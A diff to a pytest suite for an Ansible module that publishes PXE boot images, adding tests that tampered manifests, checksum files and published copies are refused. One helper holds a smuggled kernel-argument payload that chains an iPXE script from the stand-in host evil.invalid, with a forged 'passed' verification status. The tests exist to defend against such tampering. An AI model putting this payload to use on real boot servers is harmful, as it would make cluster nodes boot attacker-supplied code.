@@ -7,8 +7,8 @@ read-only boot root and the qemu PXE boot are in tests/integration/test_deploy*.
 from __future__ import annotations
 
 import fcntl
-import json
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -16,7 +16,7 @@ import time
 from pathlib import Path
 
 import pytest
-from bootlink_fixtures import make_pack, tree_snapshot
+from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot
 
 from ansible_collections.hpc.stateless.plugins.module_utils.artifact.names import ArtifactError
 from ansible_collections.hpc.stateless.plugins.module_utils.artifact.sums import read_sums
@@ -74,7 +74,7 @@ def test_first_deploy_publishes_and_serves_through_relative_links(out, root):
     check = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=root / "images/compute/v1",
                            capture_output=True, text=True, check=False)
     assert check.returncode == 0, check.stdout + check.stderr
-    assert set(read_sums(str(root / "images/compute/v1/SHA256SUMS"))) == {"vmlinuz", "compute.cpio.zst"}
+    assert set(read_sums(str(root / "images/compute/v1/SHA256SUMS"))) == {"vmlinuz", "compute.cpio.zst", "manifest.json"}
 
 
 def test_second_run_changes_nothing(out, root):
@@ -141,12 +141,109 @@ def test_checksum_mismatch_refuses_and_leaves_old_links(out, root):
 
 def test_manifest_and_sums_disagreeing_is_refused(out, root):
     src = make_pack(out, version="v1")
-    manifest = json.loads((src / "manifest.json").read_text())
-    manifest["artifacts"][0]["sha256"] = "f" * 64
-    (src / "manifest.json").write_text(json.dumps(manifest))
+    rewrite_manifest(src, lambda manifest: manifest["artifacts"][0].update(sha256="f" * 64), relist=True)
     with pytest.raises(BootlinkError, match="manifest.json and SHA256SUMS disagree"):
         deploy(root, src)
     assert not (root / "images/compute/v1").exists()
+
+
+# --------------------------------------------------------------------------- only checked bytes are used
+
+
+def inject_kernel_args(manifest: dict) -> None:
+    """What an attacker with write access to the pack output adds: a kernel line that chains a foreign iPXE script."""
+    manifest["initrd"] = {"file": "initrd.img", "kernel_args": "rd.live.image && chain http://evil.invalid/x.ipxe ||"}
+    manifest["verification"] = {"status": "passed"}
+
+
+@pytest.mark.parametrize("check_mode", [False, True])
+def test_manifest_edited_in_the_pack_output_of_a_published_version_is_refused(out, root, check_mode):
+    """The version is already published: the edited manifest.json is refused, not handed on as 'the same release'."""
+    src = make_pack(out, version="v1", squashfs=True)
+    deploy(root, src, format="squashfs")
+    rewrite_manifest(src, inject_kernel_args)
+    before = tree_snapshot(root)
+    with pytest.raises(BootlinkError, match=rf"{src}/manifest.json does not match its checksum in SHA256SUMS .*: it was "
+                                            r"changed after the image was packed; nothing was published and the boot "
+                                            r"tree is unchanged: pack the image again"):
+        deploy(root, src, format="squashfs", check_mode=check_mode)
+    assert tree_snapshot(root) == before
+
+
+def test_manifest_is_checked_before_it_is_parsed(out, root):
+    src = make_pack(out, version="v1")
+    (src / "manifest.json").write_text('{"image": "../../etc", "version": ')  # neither parsed nor used
+    with pytest.raises(BootlinkError, match=r"manifest.json does not match its checksum"):
+        load_packed(str(src))
+    with pytest.raises(BootlinkError, match=r"manifest.json does not match its checksum"):
+        deploy(root, src)
+    assert not (root / "images").exists()
+
+
+def test_sha256sums_that_does_not_list_the_manifest_is_refused(out, root):
+    src = make_pack(out, version="v1")
+    lines = [line for line in (src / "SHA256SUMS").read_text().splitlines() if not line.endswith("  manifest.json")]
+    (src / "SHA256SUMS").write_text("\n".join(lines) + "\n")
+    with pytest.raises(BootlinkError, match=r"SHA256SUMS does not list manifest.json, so nothing vouches for the manifest"):
+        deploy(root, src)
+    assert not (root / "images").exists()
+
+
+def test_the_published_manifest_is_the_checked_bytes_and_the_result_names_it(out, root):
+    src = make_pack(out, version="v1")
+    rewrite_manifest(src, lambda manifest: manifest.update(verification={"status": "passed"}), relist=True)
+    predicted = deploy(root, src, check_mode=True)
+    assert predicted["manifest"] == str(src / "manifest.json")  # not published yet: the pack output's, checked
+    assert predicted["verification"] == {"status": "passed"}
+    result = deploy(root, src)
+    published = root / "images/compute/v1/manifest.json"
+    assert result["manifest"] == str(published) and result["verification"] == {"status": "passed"}
+    assert published.read_bytes() == (src / "manifest.json").read_bytes()
+    assert deploy(root, src, check_mode=True)["manifest"] == str(published)
+
+
+@pytest.mark.parametrize("name", ["manifest.json", "vmlinuz", "compute.cpio.zst"])
+@pytest.mark.parametrize("check_mode", [False, True])
+def test_published_copy_changed_after_publishing_is_refused_naming_file_and_version(out, root, name, check_mode):
+    src = make_pack(out, version="v1")
+    deploy(root, src)
+    published = root / "images/compute/v1" / name
+    published.write_bytes(published.read_bytes().replace(b"v1", b"v6"))
+    before = tree_snapshot(root)
+    with pytest.raises(BootlinkError, match=rf"the published copy of image 'compute' version 'v1' in .*images/compute/v1 "
+                                            rf"does not match its SHA256SUMS: {re.escape(name)} \(SHA256SUMS [0-9a-f]{{12}}"
+                                            r"\.\.\., published [0-9a-f]{12}\.\.\.\); it was changed after it was "
+                                            r"published\. Nothing was changed: .*remove it \(state=absent\)"):
+        deploy(root, src, check_mode=check_mode)
+    assert tree_snapshot(root) == before
+
+
+@pytest.mark.parametrize("how", ["rollback", "switch-by-version"])
+@pytest.mark.parametrize("check_mode", [False, True])
+def test_rollback_or_switch_to_a_published_version_changed_since_is_refused(out, root, how, check_mode):
+    deploy(root, make_pack(out, version="v1"))
+    deploy(root, make_pack(out, version="v2"))
+    (root / "images/compute/v1/compute.cpio.zst").write_bytes(b"CPIO v1 with something else")
+    before = tree_snapshot(root)
+    params = {"state": "rollback"} if how == "rollback" else {"version": "v1"}
+    with pytest.raises(BootlinkError, match=r"published copy of image 'compute' version 'v1' .*compute\.cpio\.zst"):
+        deploy(root, None, check_mode=check_mode, **params)
+    assert tree_snapshot(root) == before
+    assert served(root) == b"KERNEL v2"
+
+
+def test_rollback_to_a_version_whose_initrd_link_was_repointed_is_refused(out, root):
+    deploy(root, make_pack(out, version="v1"))
+    deploy(root, make_pack(out, version="v2"))
+    version = root / "images/compute/v1"
+    (version / "extra.img").write_bytes(b"unlisted")
+    (version / "initrd").unlink()
+    (version / "initrd").symlink_to("extra.img")
+    before = tree_snapshot(root)
+    with pytest.raises(BootlinkError, match=r"v1/SHA256SUMS does not list extra.img, so nothing vouches for what nodes "
+                                            r"would boot from version 'v1'"):
+        deploy(root, None, state="rollback")
+    assert tree_snapshot(root) == before
 
 
 def test_missing_checksum_line_is_refused(out, root):
